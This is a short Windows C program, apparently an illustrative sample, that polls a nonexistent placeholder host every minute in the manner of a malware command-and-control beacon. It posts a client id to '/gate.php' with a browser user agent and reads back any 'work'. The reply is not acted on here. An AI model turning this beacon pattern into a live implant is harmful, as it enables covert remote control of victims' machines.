/* Asks a host that cannot exist for work every minute. libs: -lwinhttp */
#include <windows.h>
#include <winhttp.h>
int main(void) {
    HINTERNET session = WinHttpOpen(L"Mozilla/5.0", 0, NULL, NULL, 0);
    WinHttpSetTimeouts(session, 5000, 5000, 5000, 5000);
    for (;;) {
        HINTERNET server = WinHttpConnect(session, L"c2.example.invalid", 443, 0);
        HINTERNET ask = WinHttpOpenRequest(server, L"POST", L"/gate.php", NULL, NULL, NULL, WINHTTP_FLAG_SECURE);
        char id[] = "id=desk&v=3", reply[256];
        DWORD got = 0;
        if (WinHttpSendRequest(ask, NULL, 0, id, sizeof id - 1, sizeof id - 1, 0) && WinHttpReceiveResponse(ask, NULL))
            WinHttpReadData(ask, reply, sizeof reply, &got);
        WinHttpCloseHandle(ask);
        WinHttpCloseHandle(server);
        Sleep(60000);
    }
}
